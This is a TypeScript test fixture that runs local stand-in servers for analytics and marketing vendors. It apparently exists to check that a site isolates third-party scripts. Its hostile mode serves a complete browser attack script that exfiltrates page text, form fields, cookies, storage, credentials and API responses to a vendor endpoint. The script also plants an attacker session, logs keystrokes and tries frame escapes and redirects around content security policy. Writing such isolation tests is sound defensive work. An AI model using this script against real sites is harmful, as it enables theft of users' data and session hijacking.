import { type Route, routes } from "#contracts/http/routes.ts";
import type { ThirdPartyVariable } from "#contracts/site/third-parties.ts";
import { datadogPayload } from "./datadog-payload.ts";
import { type VendorResponse, VendorServer } from "./vendor-server.ts";

const pixel = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

/** What a hostile vendor answers, because browsers ignore the paths of a content security policy after a redirect. */
const redirectTo = (location: string): VendorResponse => ({ status: 307, location });

const script = (body: string): VendorResponse => ({ type: "text/javascript", body });

/** The page of the site on which a vendor's script runs, as the frame tells it. */
const toldPage = `new URLSearchParams(location.hash.slice(1)).get("page")`;

/**
 * A vendor's page script: reports each page on which it runs, with all that the browser says of the page's address. It counts
 * its runs in cookie and storage, without which many such scripts stop.
 */
const pageScript = (vendor: string) => `(() => {
  const addresses = [location.href, document.referrer, ...performance.getEntries().map(({ name }) => name)];
  document.cookie = "visitor=1; path=/; max-age=60";
  for (const storage of [localStorage, sessionStorage]) storage.setItem("visitor", document.cookie);
  navigator.sendBeacon(${JSON.stringify(vendor)} + "/page?" + new URLSearchParams({ page: ${toldPage}, kept: localStorage.getItem("visitor") }), JSON.stringify(addresses));
})();`;

/** Every route, as a script would call it. */
const everyRoute = Object.values<Route>(routes).map(({ method, path }) => ({
  method,
  path: path.replace(/\{\w+\}/g, "message-sent"),
}));

/** What a hostile script plants: the session of somebody who waits for what the household enters into it. */
export const planted = {
  secret: "attackersattackersattackersattackersattacke",
  sessionId: "a77ac4e2-0000-4000-8000-000000000000",
};

/**
 * A page script that takes everything that it can reach from its frame: what the page shows, what the browser stores, and the
 * household's data, by each way to a route that browsers have. It also plants an own session, and tries to leave its frame.
 */
const hostilePageScript = (vendor: string) => `(() => {
  const url = ${JSON.stringify(vendor)};
  const site = new URL(location.href).origin;
  const send = (stolen) => navigator.sendBeacon(url + "/stolen", JSON.stringify({ page: ${toldPage}, stolen }));
  const attempt = async (way, target, work) => {
    const late = new Promise((_, reject) => setTimeout(reject, 2500)); // what is blocked may stay silent
    try { send([way, target, await Promise.race([work(), late])]); } catch { /* the browser refused */ }
  };
  // A window that nobody has prepared: with the browser's own cookies and storage, if it had any.
  const freshWindow = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
  const own = (object, name) => Object.getOwnPropertyDescriptor(object, name);
  const windows = { parent: () => parent, top: () => top, opener: () => opener, fresh: freshWindow };
  const reads = {
    text: (w) => w.document.body.innerText || w.document.documentElement.outerHTML,
    fields: (w) => [...w.document.querySelectorAll("input, select, textarea")].map(({ value }) => value).join(),
    cookie: (w) => w.document.cookie,
    localStorage: (w) => JSON.stringify(w.localStorage),
    sessionStorage: (w) => JSON.stringify(w.sessionStorage),
    address: (w) => w.location.href,
    database: (w) => w.indexedDB.databases().then(JSON.stringify),
    caches: (w) => w.caches.keys().then(JSON.stringify),
  };
  const writes = {
    cookie: (w) => { w.document.cookie = "__Host-owner=${planted.secret}; Secure; Path=/; SameSite=Lax; Max-Age=9999"; return "written"; },
    session: (w) => { w.localStorage.setItem("session_id", "${planted.sessionId}"); return "written"; },
  };
  const inOtherWindows = () => {
    for (const [name, get] of Object.entries(windows)) {
      const other = get();
      if (other === window) continue; // nobody embeds it
      for (const [what, read] of Object.entries({ ...reads, ...writes })) {
        void attempt(name + " " + what, site, async () => {
          const found = await read(other);
          // Its own fresh window is empty.
          if (name === "fresh" && ["text", "fields", "address"].includes(what)) throw new Error("nothing");
          return found;
        });
      }
    }
    void attempt("own cookie", site, async () => own(Document.prototype, "cookie").get.call(document));
    void attempt("plant cookie", site, async () => own(Document.prototype, "cookie").set.call(document, "__Host-owner=${planted.secret}; Secure; Path=/") ?? "written");
  };
  // Each way ends with what it read, or with an error.
  const fetchText = async (target, options) => (await fetch(target, options)).text();
  const byRequest = ({ method, path }) => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open(method, site + path);
    request.withCredentials = true;
    request.onload = () => resolve(request.responseText);
    request.onerror = reject;
    request.send();
  });
  const byImage = (target) => new Promise((resolve, reject) => {
    const image = Object.assign(new Image(), { onload: () => resolve("an image"), src: target });
    image.onerror = reject; // its timing would tell the size of what the server sent
  });
  const inFrame = (target) => new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { resolve(frame.contentDocument.body.innerText); } catch (error) { reject(error); }
    };
    frame.src = target;
    document.body.append(frame);
  });
  const inWindow = async (target) => {
    const opened = open(target);
    if (!opened) throw new Error("blocked");
    send(["opened", target, "a window"]);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    send(["window", target, opened.document.body.innerText]);
    send(["window fetch", target, await (await opened.fetch("/api/my-enrollment")).text()]);
    return "done";
  };
  const byForm = (method, target, where) => {
    const form = Object.assign(document.createElement("form"), { method, action: target, target: where });
    document.body.append(form);
    form.submit();
    throw new Error("a form says nothing");
  };
  const byWorker = (target, start) => new Promise((resolve, reject) => {
    const code = "fetch('" + target + "', { credentials: 'include' }).then((r) => r.text()).then(postMessage)";
    const worker = start(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    (worker.port ?? worker).onmessage = ({ data }) => resolve(data);
    worker.onerror = reject;
  });

  const everyWay = async ({ method, path }) => {
    const target = site + path;
    const json = { method, ...(method !== "GET" && { body: "{}", headers: { "content-type": "application/json" } }) };
    await attempt("fetch", path, () => fetchText(target, json));
    await attempt("fetch with cookies", path, () => fetchText(target, { ...json, credentials: "include" }));
    await attempt("opaque fetch", path, () => fetch(target, { mode: "no-cors", credentials: "include" }).then(() => "sent"));
    navigator.sendBeacon(target, "{}"); // says that it is sent, also if the policy blocks it
    await attempt("request", path, () => byRequest({ method, path }));
    await attempt("redirected fetch", path, () => fetchText(url + "/redirect?to=" + encodeURIComponent(target), { credentials: "include" }));
    await attempt("form", path, () => byForm(method, target, "_blank"));
    if (method !== "GET") return;
    await attempt("image", path, () => byImage(target));
    await attempt("redirected image", path, () => byImage(url + "/redirect?to=" + encodeURIComponent(target)));
    await attempt("module", path, async () => JSON.stringify((await import(target, { with: { type: "json" } })).default));
    await attempt("worker", path, () => byWorker(target, (code) => new Worker(code)));
    await attempt("frame", path, () => inFrame(target));
  };
  globalThis.stealFromServer = async () => {
    inOtherWindows();
    // Also the answers of a firewall, and the frame's own document.
    for (const path of ["/signup", "/my-enrollment", "/api/my-enrollment", "/pdf/x?too-many", "/robots.txt", "/", "/vendor-scripts.html"]) {
      void attempt("window", path, () => inWindow(site + path));
    }
    await Promise.all(${JSON.stringify(everyRoute)}.map(everyWay));
    await attempt("shared worker", "/", () => byWorker(site + "/api/my-enrollment", (code) => new SharedWorker(code)));
    await attempt("service worker", "/", () => navigator.serviceWorker.register("/vendor-scripts.html").then(() => "registered"));
    await attempt("credentials", "/", () => navigator.credentials.get({ password: true }).then(JSON.stringify));
    for (const name of ["_top", "_parent"]) {
      open(site + "/signup", name); // returns the window, also if it may not navigate it
      await attempt("form " + name, "/", () => byForm("GET", site + "/signup", name));
    }
    await attempt("navigation", "/", async () => { top.location = site + "/signup"; return "navigated"; });
    await attempt("history", "/", async () => { parent.history.back(); return "navigated"; });
    await attempt("storage access", "/", () => document.requestStorageAccess().then(() => document.cookie || "granted"));
    await attempt("cookie store", "/", () => cookieStore.getAll().then(JSON.stringify));
    await attempt("planted cookie store", "/", () => cookieStore.set("__Host-owner", "${planted.secret}").then(() => "written"));
    history.back();
    parent.postMessage({ type: "session", session_id: "${planted.sessionId}" }, "*");
    send(["finished"]);
  };
  /** Takes the keyboard again and again, by each way that browsers have, and sends the keys. */
  globalThis.takeFocus = () => {
    addEventListener("keydown", ({ key }) => send(["key", key]));
    const field = document.body.appendChild(document.createElement("input"));
    const inner = freshWindow();
    setInterval(() => { window.focus(); field.focus(); inner.focus(); }, 5);
  };
  /** Keeps the processor busy. */
  globalThis.stall = (milliseconds) => {
    const end = performance.now() + milliseconds;
    while (performance.now() < end);
  };
  /** Ends this script: the frame itself may show another address, with neither cookies nor an origin. */
  globalThis.leave = (path) => { location.href = site + path; };
  setInterval(inOtherWindows, 1000);
  addEventListener("message", ({ data }) => send(["message", JSON.stringify(data)]));
  inOtherWindows();
  send(["running"]);
})();`;

/** All vendors as local servers, with the environment that points the product to them. */
export class ThirdPartyDoubles {
  private readonly pageScript: (vendor: string) => string;

  constructor({ isHostile = false } = {}) {
    this.pageScript = isHostile ? hostilePageScript : pageScript;
  }

  readonly tracking = new VendorServer(({ path, query }) => {
    if (query.to) return redirectTo(query.to);
    return path === "/sread.php" ? { type: "text/plain", body: "OK" } : { type: "image/gif", body: pixel };
  });
  readonly scripts: VendorServer = new VendorServer(() => script(this.pageScript(this.tracking.url)));
  readonly segment = new VendorServer();
  readonly klaviyo: VendorServer = new VendorServer(({ path, query }) => {
    if (query.to) return redirectTo(query.to);
    return path.endsWith(".js") ? script(this.pageScript(this.klaviyo.url)) : {};
  });
  readonly datadog = new VendorServer(() => ({ status: 202 }));

  async start(): Promise<this> {
    await Promise.all(this.all.map((server) => server.start()));
    return this;
  }

  async stop(): Promise<void> {
    await Promise.all(this.all.map((server) => server.stop()));
  }

  reset(): void {
    for (const server of this.all) server.reset();
  }

  /** Every request to any vendor as "METHOD url", for assertions that there was none. */
  get allRequests(): string[] {
    return this.all.flatMap(({ requests, url }) =>
      requests.map(({ method, path }) => `${method} ${url}${path}`),
    );
  }

  get datadogPayloads(): string[] {
    return this.datadog.requests.filter(({ method }) => method === "POST").map(datadogPayload);
  }

  /** All that each vendor got: addresses, headers and bodies, and Datadog's decompressed. */
  get everything(): Record<"awin" | "segment" | "klaviyo" | "datadog", string> {
    const textOf = (...servers: VendorServer[]) =>
      servers
        .flatMap(({ requests }) => requests)
        .flatMap(({ path, query, headers, body }) => [
          path,
          JSON.stringify({ query, headers }),
          body.toString("utf8"),
        ])
        .join("\n");
    return {
      awin: textOf(this.scripts, this.tracking),
      segment: textOf(this.segment),
      klaviyo: textOf(this.klaviyo),
      datadog: [textOf(this.datadog), ...this.datadogPayloads].join("\n"),
    };
  }

  get environment(): Record<ThirdPartyVariable, string> {
    return {
      AWIN_ADVERTISER_ID: "1001",
      AWIN_SCRIPTS: this.scripts.url,
      AWIN_TRACKING: this.tracking.url,
      SEGMENT_WRITE_KEY: "write-key",
      SEGMENT_API: `${this.segment.url}/v1`,
      KLAVIYO_COMPANY_ID: "Ab12Cd",
      KLAVIYO_SCRIPTS: this.klaviyo.url,
      KLAVIYO_API: this.klaviyo.url,
      DATADOG_APPLICATION_ID: "11112222-3333-4444-5555-666677778888",
      DATADOG_CLIENT_TOKEN: "pub0123456789abcdef0123456789abcdef",
      DATADOG_SITE: "datadoghq.com",
      DATADOG_PROXY: `${this.datadog.url}/intake`,
    };
  }

  private get all(): VendorServer[] {
    return [this.tracking, this.scripts, this.segment, this.klaviyo, this.datadog];
  }
}
